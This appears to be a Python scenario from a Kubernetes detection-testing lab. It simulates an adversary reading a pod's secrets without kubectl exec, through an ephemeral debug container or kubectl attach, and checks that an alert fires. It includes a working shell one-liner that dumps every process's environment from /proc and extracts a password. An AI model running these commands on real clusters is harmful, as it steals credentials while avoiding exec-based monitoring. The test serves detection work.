"""Into a running pod without kubectl exec: a debug container added to it (kubectl debug) or its own
shell's standard input (kubectl attach), reading its process's secrets."""

from __future__ import annotations

from lab import Lab, Workload, WorkloadSpec
from scenarios.api import Expectation, Kind, Scenario
from scenarios.variants import Dimension

SECRET = "hunter2"


class DebugContainer(Scenario):
    id = "kubernetes.exec.debug-container"
    title = "Ephemeral debug container joins a running pod's processes and reads their environment"
    kind = Kind.ADVERSARY
    techniques = ("T1609",)
    backends = ("kubernetes",)
    expect = Expectation(fires=("stowaway.k8s.exec-into-pod",), within_s=20)
    twin = "kubernetes.exec.operator-read-only"
    tags = ("kubernetes", "execution", "credential-access")
    dimensions = (
        Dimension("channel", ("debug", "attach"), doc="the way in: an ephemeral debug container that shares the "
                  "pod's processes (pods/ephemeralcontainers), or the standard input of a pod whose container is "
                  "a shell reading it, as some debug and REPL images run (pods/attach)"),
    )
    description = (
        "Thinking as someone who read the exec rule as it was (pods/exec only): runs a web server pod "
        "whose environment holds a database password, then, with kubectl debug, adds an ephemeral "
        "container from an image already on the node, targeting the server's container so it shares its "
        "process namespace. The debug container's own command reads every process's environment through "
        "/proc and prints the password; no pods/exec request is made, only a patch of the pod's "
        "ephemeralcontainers subresource. The scenario reads the debug container's log and checks the "
        "password is in it. A variant attaches instead (kubectl attach -i) to a pod whose container is a "
        "shell reading its standard input, and types the commands into it."
    )

    def detonate(self, lab: Lab) -> None:
        if self.variant["channel"] == "attach":
            _attach(lab)
            return
        pod = lab.deploy(WorkloadSpec(role="web", command=("python3", "-m", "http.server", "8080"),
                                      env={"DB_PASSWORD": SECRET}))
        namespace = pod.namespace or "default"
        container = lab.kubectl("get", "pod", "-n", namespace, pod.name, "-o",
                                "jsonpath={.spec.containers[0].name}").output.strip()
        lab.action("kubectl debug: add an ephemeral container that shares the pod's processes")
        lab.kubectl("debug", "-n", namespace, pod.name, f"--image={lab.image}", "--image-pull-policy=IfNotPresent",
                    f"--target={container}", "-c", "dbg", "--", "sh", "-c",
                    "for e in /proc/[0-9]*/environ; do tr '\\0' '\\n' < \"$e\" 2>/dev/null; done | "
                    "grep '^DB_PASSWORD=' | sort -u; sleep 300")
        lab.wait_for(lambda: f"DB_PASSWORD={SECRET}" in lab.kubectl("logs", "-n", namespace, pod.name, "-c", "dbg",
                                                                   check=False).output,
                     timeout=30, what="the debug container to print the server's password")


def _attach(lab: Lab) -> None:
    """A pod whose container is a shell on its standard input (stdin: true): attach and type into it."""
    name = lab.name("console")
    pod: Workload = lab.apply({
        "apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "namespace": "default"},
        "spec": {"automountServiceAccountToken": False, "terminationGracePeriodSeconds": 1, "containers": [{
            "name": "console", "image": lab.image, "imagePullPolicy": "IfNotPresent", "command": ["sh"],
            "stdin": True, "env": [{"name": "DB_PASSWORD", "value": SECRET}]}]},
    })[0]
    lab.kubectl("wait", "--for=condition=Ready", f"pod/{pod.name}", "-n", "default", "--timeout=60s", timeout=90)
    lab.action("kubectl attach: type commands into the pod's own shell")
    # The shell runs what it reads; the last command ends it, so the stream ends (the kubelet restarts
    # the console, as it would after any operator's exit).
    out = lab.kubectl("attach", "-i", "-n", "default", pod.name, "-c", "console", check=False, timeout=30,
                      input="echo \"DB_PASSWORD=$DB_PASSWORD\"; exit\n").output

    def printed() -> bool:  # on the stream, or in the log of the console as it ran then (or runs now)
        logged = "".join(lab.kubectl("logs", *flag, "-n", "default", pod.name, check=False).output
                         for flag in ((), ("--previous",)))
        return f"DB_PASSWORD={SECRET}" in out + logged

    lab.wait_for(printed, timeout=20, what="the attached shell to print the password")
